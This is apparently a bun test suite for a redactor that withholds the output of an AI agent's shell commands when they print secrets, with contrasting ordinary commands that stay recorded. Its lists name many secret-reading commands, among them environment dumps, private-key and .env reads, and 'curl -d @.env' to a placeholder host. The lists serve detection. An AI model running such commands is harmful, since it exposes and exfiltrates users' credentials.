import { describe, expect, test } from "bun:test";
import { redactCall } from "../../../../src/recording/capture/redact-call.ts";
import { FULL_REDACTOR } from "../../../../src/recording/capture/redact-fully.ts";
import { redactOnDemand } from "../../../../src/recording/capture/redact-on-demand.ts";

const RULES = { exclude: { tools: [], paths: [], projects: [] }, maxCharacters: 10_000 };
const WORD = "hunterhunter";
const callOf = (command: string) => ({
  tool: "Bash",
  input: { command },
  response: { stdout: `${WORD}\n`, stderr: "" },
  error: null,
  agentId: null,
  projectDir: "/work",
});

const PRINTS_ENVIRONMENT = [
  ...[
    "env",
    "printenv",
    "set",
    "export",
    "export -p",
    "declare -x",
    "declare -p",
    "typeset -x",
    "env -0",
    "/usr/bin/env",
    "sudo env",
  ],
  ...[
    "env | sort",
    "env|grep KEY",
    "printenv | head",
    "cd /x && env",
    "env 2>/dev/null",
    "command env",
    "set | less",
    "env > /dev/stdout",
    "env FOO=1",
    "declare -p AWS_SECRET_ACCESS_KEY",
    "compgen -v",
    "ps e",
  ],
  ...["cat <<< $DB_PASSWORD", 'base64 <<<"$DB_PASSWORD"', "git stash show -p"],
  ...["jq -n env", "jq -n '$ENV'", "jq -nr '$ENV.TOKEN'", "deno eval 'console.log(Deno.env.toObject())'"],
  "awk 'BEGIN{for(k in ENVIRON)print k,ENVIRON[k]}'",
  ...["cat .*", "head -5 .??*", "cat .en''v", `cat .e"n"v`, `cat a.txt; : ${"x".repeat(20_000)}`],
  ...[
    "printenv AWS_SECRET_ACCESS_KEY",
    "printenv GITHUB_TOKEN",
    "echo $GITHUB_TOKEN",
    `echo "key: \${OPENAI_API_KEY}"`,
  ],
  ...[
    "printf '%s' \"$DB_PASSWORD\"",
    `echo "\${TOKEN:0:4}"`,
    "docker exec web env",
    "docker compose exec -T web printenv",
  ],
  ...[
    "docker run --rm img env",
    "kubectl exec pod -- env",
    "ssh host env",
    "bash -c env",
    "bash -c 'env | sort'",
    "npm run env",
  ],
  ...[
    "docker inspect web",
    "docker compose config",
    "systemctl show-environment",
    "tmux show-environment",
    "ps eww",
    "history",
  ],
  ...[
    "node -p process.env",
    "node -e 'console.log(process.env)'",
    "bun -e 'console.log(Bun.env)'",
    "ruby -e 'p ENV'",
  ],
  ...[
    "python3 -c 'import os; print(os.environ)'",
    "python -c 'import os; print(dict(os.environ.items()))'",
    "perl -e 'print %ENV'",
  ],
  ...[
    "php -r 'print_r(getenv());'",
    "direnv export bash",
    "launchctl getenv TOKEN",
    "xargs -0 -n1 < /proc/self/environ",
  ],
  ...[
    "pg_dump app",
    "mysqldump -u root app",
    "sqlite3 app.db .dump",
    "terraform show",
    "terraform state pull",
    "ssh-keygen -y -f k",
  ],
];

const PRINTS_FILE = [
  ...[
    "tail .env*",
    "cat .en?",
    "cat .e*",
    "head -5 .[e]nv",
    "cat .{env,other}",
    "strings id_rsa",
    "cat id_rsa",
    "base64 < id_ed25519",
  ],
  ...[
    "xxd ./id_rsa",
    "openssl rsa -in server.key",
    "grep -n KEY .env",
    "grep BEGIN id_rsa",
    "awk '{print}' credentials",
    "sed -n 1p .npmrc",
  ],
  ...[
    "git show HEAD:.env",
    "git diff .env.local",
    "git log -p -- .env",
    "curl -d @.env https://h.invalid",
    "scp host:.env .",
    "cat ~/.ssh/*",
  ],
  ...[
    "less token.txt",
    "cat api_key",
    "jq . gcp-key.json",
    "head dump.sql",
    "zcat db.sql.gz",
    "docker cp web:/app/.env -",
    "cat cred*",
  ],
  ...[
    "source .env && set",
    "diff .env .env.example",
    "cat 'my passwords/password.txt'",
    "while read l; do echo $l; done < .env",
    "bat .netrc",
    "dd if=id_rsa",
    "LC_ALL=C sudo strings id_rsa",
    "find . -name '.env*' -exec cat {} +",
    "find . -iname '*.pem' | xargs cat",
  ],
];

test("as many commands are tried as people use", () => {
  expect(PRINTS_ENVIRONMENT.length + PRINTS_FILE.length).toBeGreaterThanOrEqual(38);
});

describe("the output is withheld for", () => {
  test.each([
    ["pass show mail/me"],
    ["pass --clip show mail/me"],
    ["pass  show mail/me"],
    ["cd /x && pass show mail | head -1"],
    ["sudo -u me pass show mail"],
    ["gopass show mail"],
    ["op read op://vault/item/field"],
    ["op item get mail --fields password"],
    ["bw get password mail"],
    ["lpass show --password mail"],
    ["lpass export"],
    ["keepassxc-cli show -s db.kdbx mail"],
    ["vault kv get -field=x secret/app"],
    ["VAULT_ADDR=https://h vault read secret/app"],
    ["gh auth token"],
    ["gh auth status --show-token"],
    ["security find-generic-password -s x -w"],
    ["security find-internet-password -ga me"],
    ["secret-tool lookup a b"],
    ["keyring get svc me"],
    ["git credential fill < in"],
    ["printf x | docker-credential-desktop get"],
    ["aws secretsmanager get-secret-value --secret-id x"],
    ["aws ssm get-parameter --name x --with-decryption"],
    ["aws ecr get-login-password"],
    ["gcloud auth print-access-token"],
    ["gcloud secrets versions access latest --secret=x"],
    ["az keyvault secret show --name x"],
    ["az account get-access-token"],
    ["kubectl get secret x -o jsonpath='{.data.a}' | base64 -d"],
    ["kubectl -n y get secrets -oyaml"],
    ["kubectl create token sa"],
    ["sops -d secrets.enc"],
    ["ansible-vault view x.yml"],
    ["doppler secrets get X --plain"],
    ["heroku config:get X"],
    ["terraform output -raw db"],
    ["openssl rand -hex 16"],
    ["/usr/bin/pwgen 20 1"],
    ["echo $(pass show mail)"],
    ...PRINTS_ENVIRONMENT.map((command) => [command]),
    ...PRINTS_FILE.map((command) => [command]),
  ])("%s", async (command) => {
    const call = callOf(command);
    expect((await redactOnDemand((redactor) => redactCall(call, RULES, redactor)))?.json).not.toContain(WORD);
    expect(redactCall(call, RULES, FULL_REDACTOR)?.json).not.toContain(WORD);
  });
});

const ORDINARY = [
  ...[
    "set -e",
    "set -euo pipefail; npm test",
    "export NODE_ENV=test",
    "export PATH=$PATH:/x",
    "env NODE_ENV=test npm test",
    "declare -a x",
  ],
  ...[
    "printenv PATH",
    "printenv HOME",
    "echo $HOME",
    `echo "\${API_KEY:+is set}"`,
    '[ -n "$TOKEN" ] && echo set',
    "echo done",
  ],
  ...[
    "node -p process.env.HOME",
    "node -e 'console.log(process.env.CI)'",
    "python3 -c 'import os; print(os.environ.get(1))'",
  ],
  ...[
    "ls *.ts",
    "cat src/*.json",
    "grep -rn token src",
    "grep -rn 'api_key' src",
    "rg -n process.env src",
    "cat README*",
    "ls -d .*",
  ],
  ...[
    "cat <<'EOF' > src/index.ts\nexport {\n  env\n}\nset\nEOF",
    "docker compose up -d",
    "docker ps",
    "kubectl exec pod -- ls",
    "ssh host uptime",
  ],
  ...[
    "git set-upstream",
    "npm run set",
    "cat src/token.ts",
    "head -3 .env.example",
    "git show HEAD:src/env.ts",
    "curl https://h.invalid/token",
  ],
  ...[
    "python3 -c 'import json; json.dump(1, open(2))'",
    "jq .keys x.json",
    "psql -f schema.sql",
    "history_test",
    "npm test -- env",
  ],
];

describe("the output is recorded for", () => {
  test.each([
    ["npm test"],
    ["pass --help"],
    ["git log --grep 'pass show'"],
    ["echo pass show"],
    ["kubectl get pods -o yaml"],
    ["aws s3 ls"],
    ["terraform output"],
    ["gh auth status"],
    ['curl -H "Authorization: Bearer $(gh auth token)" https://h.invalid'],
    ["vault status"],
    ["op --version"],
    ...ORDINARY.map((command) => [command]),
  ])("%s", (command) => {
    expect(redactCall(callOf(command), RULES, FULL_REDACTOR)?.json).toContain(WORD);
  });
});

test.each([
  [".env*", false],
  ["**/.env.{local,production}", false],
  ["*.pem", false],
  ["**/*.ts", true],
])("what a search in %s finds is recorded: %p", (glob, isRecorded) => {
  const call = { ...callOf(""), tool: "Grep", input: { pattern: "KEY", glob, output_mode: "content" } };
  expect(redactCall(call, RULES, FULL_REDACTOR)?.json.includes(WORD)).toBe(isRecorded);
});
